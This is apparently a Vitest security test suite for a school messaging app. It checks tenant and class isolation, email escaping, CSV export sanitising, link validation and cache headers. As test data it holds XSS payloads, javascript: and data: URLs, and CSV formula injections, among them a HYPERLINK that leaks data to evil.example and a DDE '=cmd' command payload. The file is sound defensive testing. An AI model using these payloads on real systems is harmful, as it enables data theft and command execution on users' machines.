import { ROUTES } from '@cue/contract';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoId } from '../../src/seed/demo.js';
import { bearer, createTestApp, staffToken, type TestApp } from '../harness.js';

/**
 * What one person could see or plant that was not theirs: another school's emails, another class's
 * read receipts and calendar, markup in emails, formulas in CSV exports, script links, cached answers.
 */
let t: TestApp;
let anita: string;
let tara: string;
let neha: string;
let moonbeamAdmin: string;
const nurseryA = demoId('class:nurseryA');
const kgB = demoId('class:kindergartenB');
const aarav = demoId('student:Aarav Sharma');
const ANNOUNCEMENTS = '/api/communication/announcements/';
const HOMEWORKS = '/api/communication/homeworks/';
const EVIL = '<img src=x onerror=alert(1)>';
const ddmmyyyy = (d: Date) => d.toISOString().slice(0, 10).split('-').reverse().join('-');
const today = ddmmyyyy(new Date());
/** A school day (Monday to Friday) before today. */
const lastWeekday = () => {
  const d = new Date(Date.now() - 86_400_000);
  while (d.getUTCDay() === 0 || d.getUTCDay() === 6) d.setUTCDate(d.getUTCDate() - 1);
  return ddmmyyyy(d);
};

const call = (method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, token?: string, payload?: object) =>
  t.request({ method, url, ...(token ? { headers: bearer(token) } : {}), ...(payload ? { payload } : {}) });

beforeAll(async () => {
  t = await createTestApp();
  [anita, tara, neha] = [await staffToken(t, '9000000002'), await staffToken(t, '9000000003'), await staffToken(t, '9000000005')];
  // Sam is a super admin of both schools: switched to Moonbeam, an admin of another school.
  const sam = await staffToken(t, '9000000001');
  const switched = await call('POST', ROUTES.switchSchool.path, sam, { school_id: demoId('school:moonbeam') });
  expect(switched.statusCode, switched.body).toBe(200);
  moonbeamAdmin = switched.json().result.access_token;
});
afterAll(() => t.close());

describe('the email outbox', () => {
  it("lists a school's own emails to its admins only, with names escaped in the markup", async () => {
    const linked = await call('POST', `/api/student/${aarav}/parents`, anita, {
      first_name: EVIL,
      last_name: 'Guardian',
      email: 'guardian@family.example',
      relation: 'guardian',
    });
    expect(linked.statusCode, linked.body).toBe(200);
    const sent = await call('POST', ANNOUNCEMENTS, anita, {
      title: 'Head lice notice <b>',
      summary: '<p>Please check your child</p>',
      share_with: 'Classes',
      classes_ids: [nurseryA],
      send_email: true,
    });
    expect(sent.statusCode, sent.body).toBe(200);
    // Emails go out by jobs on the queue, in batches of families.
    await t.services.jobs.runDue();

    const own = await call('GET', ROUTES.emailOutbox.path, anita);
    expect(own.statusCode, own.body).toBe(200);
    const emails = own.json().result as { to: string; subject: string; html: string }[];
    const mail = emails.find((m) => m.to === 'guardian@family.example');
    expect(mail?.subject).toBe('Sunrise Early Years: Head lice notice <b>');
    expect(mail?.html).toContain('<p>Dear &lt;img src=x onerror=alert(1)&gt;,</p>');
    expect(mail?.html).toContain('<p>Please check your child</p>');
    expect(mail?.html).not.toContain('<img');
    expect(emails.every((m) => JSON.stringify(m).includes('Sunrise Early Years'))).toBe(true);

    const other = await call('GET', ROUTES.emailOutbox.path, moonbeamAdmin);
    expect(other.statusCode, other.body).toBe(200);
    expect(other.json().result).toEqual([]);
    expect(other.body).not.toMatch(/Sunrise|Head lice|guardian@family/);

    const teacher = await call('GET', ROUTES.emailOutbox.path, tara);
    expect(teacher.statusCode).toBe(403);
    expect(teacher.body).not.toMatch(/Head lice/);
  });

  it('escapes the title when there is no summary', async () => {
    const sent = await call('POST', ANNOUNCEMENTS, anita, {
      title: '<script>x()</script> & more',
      share_with: 'Classes',
      classes_ids: [nurseryA],
      send_email: true,
    });
    expect(sent.statusCode, sent.body).toBe(200);
    await t.services.jobs.runDue();
    const emails = (await call('GET', ROUTES.emailOutbox.path, anita)).json().result as { to: string; html: string }[];
    const mail = emails.find((m) => m.to === 'guardian@family.example');
    expect(mail?.html).toContain('<p>&lt;script&gt;x()&lt;/script&gt; &amp; more</p>');
  });

  it('is not served when emails go out by SMTP', async () => {
    const smtp = await createTestApp({ SMTP_URL: 'smtp://127.0.0.1:2525' });
    try {
      const res = await smtp.request({
        method: 'GET',
        url: ROUTES.emailOutbox.path,
        headers: bearer(await staffToken(smtp, '9000000002')),
      });
      expect(res.statusCode).toBe(404);
      expect(res.json().code).toBe('NOT_FOUND');
    } finally {
      await smtp.close();
    }
  });
});

describe('CSV exports', () => {
  const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+1', '-2+3', '@SUM(1,1)', '\tTabbed', '\rReturned'];

  const cellsOf = (body: string) => (parse(body.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
  const expectNeutral = (cells: string[]) => {
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  };

  it('prefix formula-looking cells with a quote in class lists, contact sheets, attendance and import templates', async () => {
    const formulaStudents: string[] = [];
    for (const first_name of FORMULAS) {
      const made = await call('POST', ROUTES.studentCreate.path, anita, { first_name, last_name: 'Formula', class_id: kgB });
      expect(made.statusCode, made.body).toBe(200);
      formulaStudents.push(made.json().result.id);
    }
    const student = (await call('POST', ROUTES.studentCreate.path, anita, { first_name: 'Plain', class_id: kgB })).json().result;
    const linked = await call('POST', `/api/student/${student.id}/parents`, anita, {
      first_name: '=cmd|" /C calc"!A0',
      email: 'formula@family.example',
    });
    expect(linked.statusCode, linked.body).toBe(200);

    const list = await call('GET', `/api/reports/class_list/${kgB}`, anita);
    expect(list.statusCode, list.body).toBe(200);
    const cells = cellsOf(list.body);
    expect(cells).toContain(`'${FORMULAS[0]}`);
    expect(cells).toContain("'@SUM(1,1)");
    expect(cells).toContain("'-2+3");
    expect(cells.some((c) => c.startsWith(`'=cmd`))).toBe(true);
    expectNeutral(cells);
    expectNeutral(cellsOf((await call('GET', ROUTES.reportContacts.path, anita)).body));

    const marks = await call('POST', ROUTES.classAttendanceSave.path.replace(':id', kgB), anita, {
      date: lastWeekday(),
      student_attendance_list: [{ student_id: formulaStudents[0], attendance_status: 'present' }],
    });
    expect(marks.statusCode, marks.body).toBe(200);
    const created = await call('POST', ROUTES.classCreate.path, anita, { class_name: '=1+2', color: '#228be6' });
    expect(created.statusCode, created.body).toBe(200);
    const template = await call('GET', ROUTES.importStudentsTemplate.path, anita);
    expect(template.statusCode).toBe(200);
    expect(cellsOf(template.body)).toContain("'=1+2");
    expectNeutral(cellsOf(template.body));
    const exported = await call('GET', `${ROUTES.attendanceExport.path}?class_id=${kgB}`, anita);
    expect(exported.statusCode).toBe(200);
    expect(cellsOf(exported.body)).toContain(`'${FORMULAS[0]}`);
    expectNeutral(cellsOf(exported.body));
  });
});

describe('a class is seen and addressed by its own staff', () => {
  it("another class's teacher is refused its read receipts; its teacher and the admin see them", async () => {
    const sent = await call('POST', ANNOUNCEMENTS, tara, {
      title: 'Nursery trip',
      share_with: 'Classes',
      classes_ids: [nurseryA],
    });
    expect(sent.statusCode, sent.body).toBe(200);
    const reads = `${ANNOUNCEMENTS}${sent.json().result.id}/reads`;
    const refused = await call('GET', reads, neha);
    expect(refused.statusCode).toBe(403);
    expect(refused.body).not.toMatch(/Rohan/);
    for (const token of [tara, anita]) {
      const res = await call('GET', reads, token);
      expect(res.statusCode, res.body).toBe(200);
      expect(JSON.stringify(res.json().result)).toContain('Rohan');
    }
  });

  it("a school-wide announcement shows a teacher the receipts of their own class's families only", async () => {
    const linked = await call('POST', `/api/student/${aarav}/parents`, anita, {
      first_name: 'Nila',
      email: 'nila@family.example',
    });
    expect(linked.statusCode, linked.body).toBe(200);
    const sent = await call('POST', ANNOUNCEMENTS, anita, { title: 'School closed Monday', share_with: 'Everyone' });
    expect(sent.statusCode, sent.body).toBe(200);
    const reads = `${ANNOUNCEMENTS}${sent.json().result.id}/reads`;
    const names = async (token: string) => {
      const r = (await call('GET', reads, token)).json().result as {
        read: { first_name: string }[];
        not_read: { first_name: string }[];
      };
      return [...r.read, ...r.not_read].map((p) => p.first_name);
    };
    // Nila is a Nursery A family only; Rohan has a child in each class.
    expect(await names(anita)).toEqual(expect.arrayContaining(['Nila', 'Rohan']));
    expect(await names(tara)).toEqual(expect.arrayContaining(['Nila', 'Rohan']));
    const kgFamilies = await names(neha);
    expect(kgFamilies).toContain('Rohan');
    expect(kgFamilies).not.toContain('Nila');
  });

  it("another class's teacher cannot address announcements or homework to it", async () => {
    for (const url of [ANNOUNCEMENTS, HOMEWORKS]) {
      const refused = await call('POST', url, neha, { title: 'Not my class', share_with: 'Classes', classes_ids: [nurseryA] });
      expect(refused.statusCode, url).toBe(403);
      const mixed = await call('POST', url, neha, { title: 'Not my class', share_with: 'Classes', classes_ids: [kgB, nurseryA] });
      expect(mixed.statusCode, url).toBe(403);
      expect((await call('POST', url, neha, { title: 'Mine', share_with: 'Classes', classes_ids: [kgB] })).statusCode).toBe(200);
      for (const token of [tara, anita]) {
        const res = await call('POST', url, token, { title: 'Nursery A', share_with: 'Classes', classes_ids: [nurseryA] });
        expect(res.statusCode, res.body).toBe(200);
      }
    }
    const listed = (await call('GET', `${ANNOUNCEMENTS}?search=Not%20my%20class`, anita)).json().result;
    expect(listed.total).toBe(0);
  });

  it("another class's teacher does not see its calendar; its teacher and the admin do", async () => {
    const made = await call('POST', ROUTES.calendarCreate.path, tara, {
      title: 'Nursery puppet show',
      start_date: today,
      end_date: today,
      class_id: nurseryA,
    });
    expect(made.statusCode, made.body).toBe(200);
    const range = `from=${today}&to=${today}`;
    const forNursery = await call('GET', `${ROUTES.calendarList.path}?${range}&class_id=${nurseryA}`, neha);
    expect(forNursery.statusCode).toBe(403);
    expect(forNursery.body).not.toMatch(/puppet/);
    const everything = await call('GET', `${ROUTES.calendarList.path}?${range}`, neha);
    expect(everything.statusCode).toBe(200);
    expect(everything.body).not.toMatch(/puppet/);
    for (const token of [tara, anita]) {
      for (const query of [range, `${range}&class_id=${nurseryA}`]) {
        const res = await call('GET', `${ROUTES.calendarList.path}?${query}`, token);
        expect(res.statusCode, res.body).toBe(200);
        expect(res.body).toMatch(/Nursery puppet show/);
      }
    }
  });
});

describe('links', () => {
  it('an announcement keeps an http(s) file link and refuses any other kind', async () => {
    for (const file_link of [
      'javascript:alert(1)',
      ' JavaScript:alert(document.cookie)',
      'data:text/html,<script>x</script>',
      'vbscript:x',
      '//evil.example',
    ]) {
      const res = await call('POST', ANNOUNCEMENTS, tara, { title: 'Link', save_as_draft: true, file_link });
      expect(res.statusCode, file_link).toBe(400);
      expect(res.json().errors[0].field).toBe('file_link');
    }
    const ok = await call('POST', ANNOUNCEMENTS, tara, {
      title: 'Link',
      save_as_draft: true,
      file_link: 'https://example.com/sheet.pdf',
    });
    expect(ok.statusCode, ok.body).toBe(200);
    expect(ok.json().result.file_link).toBe('https://example.com/sheet.pdf');
  });

  it('a bug report names an http(s) page or a page of the app only', async () => {
    for (const url of ['javascript:alert(1)', 'data:text/html,x', '//evil.example/x', '/\\evil.example']) {
      const bad = await call('POST', ROUTES.bugReport.path, tara, { url, summary: 'Broken' });
      expect(bad.statusCode, url).toBe(400);
      expect(bad.json().errors[0].field).toBe('url');
    }
    for (const url of ['http://localhost:3000/dashboard', '/dashboard']) {
      const good = await call('POST', ROUTES.bugReport.path, tara, { url, summary: 'Broken' });
      expect(good.statusCode, good.body).toBe(200);
    }
  });
});

describe('caching', () => {
  it('every API answer, success or error, says Cache-Control: no-store', async () => {
    const answers = [
      await call('GET', ROUTES.health.path),
      await call('GET', ANNOUNCEMENTS, tara),
      await call('GET', ANNOUNCEMENTS),
      await call('GET', ROUTES.usage.path, tara),
      await call('GET', '/api/no_such_route/'),
      await call('POST', ANNOUNCEMENTS, tara, { title: 'x'.repeat(500) }),
      await call('GET', `/api/reports/class_list/${kgB}`, anita),
      await call('POST', ROUTES.otpSend.path, undefined, { phno: 'not a phone' }),
    ];
    expect(answers.map((r) => r.statusCode)).toEqual([200, 200, 401, 403, 404, 400, 200, 400]);
    for (const res of answers) expect(res.headers['cache-control'], res.raw.req.url).toBe('no-store');
  });

  it('uploaded files keep their long cache lifetime', async () => {
    const boundary = '----cue';
    const upload = await t.request({
      method: 'POST',
      url: ROUTES.mediaUpload.path,
      headers: { ...bearer(tara), 'content-type': `multipart/form-data; boundary=${boundary}` },
      payload: Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="sheet.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\n\r\n--${boundary}--\r\n`,
      ),
    });
    expect(upload.statusCode, upload.body).toBe(200);
    expect(upload.headers['cache-control']).toBe('no-store');
    const file = await call('GET', upload.json().result.media_link);
    expect(file.statusCode).toBe(200);
    expect(file.headers['cache-control']).toMatch(/max-age=\d+/);
    expect(file.headers['cache-control']).not.toMatch(/no-store/);
  });
});
